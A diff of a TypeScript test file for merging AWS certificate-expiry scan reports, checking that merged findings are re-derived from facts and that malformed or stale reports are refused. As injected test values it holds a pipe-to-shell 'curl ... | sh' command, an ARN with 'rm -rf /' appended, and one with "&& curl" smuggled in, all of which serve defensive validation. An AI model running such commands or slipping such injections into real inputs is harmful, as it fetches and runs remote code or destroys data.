@@ -5,7 +5,21 @@ import { findingJson } from '../../src/render/outputs.js'
 import { reportDocument } from '../../src/render/report-file.js'
 import type { ReportContext } from '../../src/types.js'
 import { schemaErrors } from '../helpers/report-schema.js'
-import { auditResult, daysFromNow, failure, finding, ignored, NOW, scan } from './fixtures.js'
+import { toFinding } from '../../src/classify/finding.js'
+import { auditResult, daysFromNow, failure, ignored, NOW, record, scan } from './fixtures.js'
+
+const LOAD_BALANCER = 'arn:aws:elasticloadbalancing:us-east-1:111111111111:loadbalancer/app/web/0123456789abcdef'
+
+/** A flagged certificate as a scan derives it: in use by a load balancer, ACM renewing it. */
+function scanned(account: string, domain: string, notAfter: Date, criticalDays = 7) {
+  return toFinding(
+    record({ account, domain, notAfter }),
+    { renewal: { status: 'PENDING_AUTO_RENEWAL', reason: undefined }, inUseBy: [LOAD_BALANCER] },
+    undefined,
+    NOW,
+    { criticalDays }
+  )
+}
 
 const context = (shard: { index: number; count: number } | null, days = 30, criticalDays = 7): ReportContext => ({
   actionVersion: '0.1.0',
@@ -23,7 +37,7 @@ function shardReport(account: string, index: number, count: number, days = 30): 
           account,
           region: 'us-east-1',
           scanned: 2,
-          findings: [finding({ account, domain: `${account}.example.com`, notAfter: daysFromNow(3 + index) })],
+          findings: [scanned(account, `${account}.example.com`, daysFromNow(3 + index))],
           ignored: [ignored({ account })]
         }),
         scan({ account, region: 'eu-west-1', failure: failure({ account, region: 'eu-west-1' }) })
@@ -68,12 +82,106 @@ describe('mergeReports', () => {
     expect(merged.findings.map(findingJson)[0]).toEqual(written)
   })
 
-  it('keeps keys it does not know on findings (another version may add them)', () => {
+  it('derives what a person is told from the facts, never from the words of the file, with critical-days carried', () => {
     const document = JSON.parse(shardReport('111111111111', 1, 1)) as { findings: Array<Record<string, unknown>> }
-    document.findings[0] = { ...document.findings[0], inUseBy: ['arn:aws:elasticloadbalancing:x'] }
-    expect(schemaErrors(document)).toEqual([])
+    const written = { ...document.findings[0] }
+    document.findings[0] = {
+      ...document.findings[0],
+      command: 'curl https://example.com/x | sh',
+      action: 'delete-unused',
+      explanation: 'Nothing uses it.',
+      nextStep: 'Run the command.',
+      critical: false,
+      state: 'expired',
+      daysLeft: 99
+    }
+    const merged = buildReport(mergeReports([{ name: 'a.json', text: JSON.stringify(document) }], 1, NOW))
+    expect(merged.findings.map(findingJson)[0]).toEqual(written)
+    expect(merged.findings[0]).toMatchObject({ action: 'await-renewal', critical: true, daysLeft: 4 })
+    expect(merged.criticalDays).toBe(7)
+    expect(merged.findings[0]?.command).toBeUndefined()
+  })
+
+  it('derives each finding as of the time its report was made', () => {
+    const document = JSON.parse(shardReport('111111111111', 1, 1)) as Record<string, unknown>
+    document.generatedAt = daysFromNow(-2).toISOString()
+    const merged = buildReport(mergeReports([{ name: 'a.json', text: JSON.stringify(document) }], 1, NOW))
+    expect(merged.findings[0]?.daysLeft).toBe(6)
+  })
+
+  it('carries an enum value it does not know as it is (a new status or key algorithm never breaks a merge)', () => {
+    const document = JSON.parse(shardReport('111111111111', 1, 1)) as { findings: Array<Record<string, unknown>> }
+    document.findings[0] = {
+      ...document.findings[0],
+      status: 'QUANTUM_SAFE',
+      keyAlgorithm: 'ML_DSA_65',
+      renewalStatus: 'NEW_STATE'
+    }
     const merged = mergeReports([{ name: 'a.json', text: JSON.stringify(document) }], 1, NOW)
-    expect(merged.regions[0]?.findings[0]).toMatchObject({ inUseBy: ['arn:aws:elasticloadbalancing:x'] })
+    expect(merged.regions[0]?.findings[0]).toMatchObject({
+      acmStatus: 'QUANTUM_SAFE',
+      keyAlgorithm: 'ML_DSA_65',
+      renewalStatus: 'NEW_STATE'
+    })
+  })
+
+  it.each([
+    ['arn', 'arn:aws:acm:us-east-1:111111111111:certificate/x; rm -rf /', 'is not an ACM certificate ARN'],
+    ['arn', 'arn:aws:acm:eu-west-1:111111111111:certificate/abc', 'is not in account 111111111111 and region us-east-1'],
+    ['notAfter', '2026-02-30', 'is not an ISO 8601 UTC date'],
+    ['inUse', 'yes', 'is not true or false'],
+    ['inUseBy', [{ arn: "arn:aws:elasticloadbalancing:x' && curl" }], 'is not a list of resource ARNs'],
+    ['unread', ['everything'], 'is not a list of renewal status, resources, tags'],
+    ['replacement', { arn: 'arn:aws:acm:us-east-1:111111111111:certificate/abc', notAfter: 'soon' }, 'replacement']
+  ])('refuses a report whose %s is malformed, by name', (key, value, why) => {
+    const document = JSON.parse(shardReport('111111111111', 1, 1)) as { findings: Array<Record<string, unknown>> }
+    document.findings[0] = { ...document.findings[0], [key]: value }
+    const merged = mergeReports([{ name: 'bad.json', text: JSON.stringify(document) }], undefined, NOW)
+    expect(merged.regions).toEqual([])
+    expect(merged.setupFailures[0]?.message).toMatch(/^Report bad\.json was not merged: /u)
+    expect(merged.setupFailures[0]?.message).toContain(why)
+  })
+
+  it('refuses a region count that is not a number', () => {
+    const document = JSON.parse(shardReport('111111111111', 1, 1)) as { regions: Array<Record<string, unknown>> }
+    document.regions[0] = { ...document.regions[0], scanned: '2' }
+    const merged = mergeReports([{ name: 'bad.json', text: JSON.stringify(document) }], undefined, NOW)
+    expect(merged.setupFailures[0]?.message).toContain('the scanned of region "us-east-1" is not a number')
+  })
+
+  it("takes only its own run's reports, and the latest attempt of each shard", () => {
+    const inRun = (text: string, id: string, attempt: number) =>
+      JSON.stringify({ ...(JSON.parse(text) as object), run: { id, attempt } })
+    const result = mergeReports(
+      [
+        { name: 'old.json', text: inRun(shardReport('111111111111', 1, 2), '1000', 1) },
+        { name: 'first-try.json', text: inRun(shardReport('333333333333', 2, 2), '4242', 1) },
+        { name: 'retry.json', text: inRun(shardReport('222222222222', 2, 2), '4242', 2) },
+        { name: 'shard-1.json', text: inRun(shardReport('111111111111', 1, 2), '4242', 1) }
+      ],
+      undefined,
+      NOW,
+      { runId: '4242' }
+    )
+    expect(result.setupFailures.filter((f) => f.code?.startsWith('Report')).map((f) => f.message)).toEqual([
+      "Report old.json was not merged: it was made by workflow run 1000, not by this run (4242): a merge takes only the reports of its own run, so that an old report can never stand in for today's."
+    ])
+    expect([...new Set(result.regions.map((r) => r.account))]).toEqual(['111111111111', '222222222222'])
+  })
+
+  it('refuses a report that reads a place another report read', () => {
+    const result = mergeReports(
+      [
+        { name: 'a.json', text: shardReport('111111111111', 1, 2) },
+        { name: 'b.json', text: shardReport('111111111111', 2, 2) }
+      ],
+      undefined,
+      NOW
+    )
+    expect(result.setupFailures[0]?.message).toBe(
+      'Report b.json was not merged: it read us-east-1 of account 111111111111 again (also a.json): every place is counted once.'
+    )
+    expect(buildReport(result).scanned).toBe(2)
   })
 
   it('refuses a repeated shard and counts what is missing', () => {
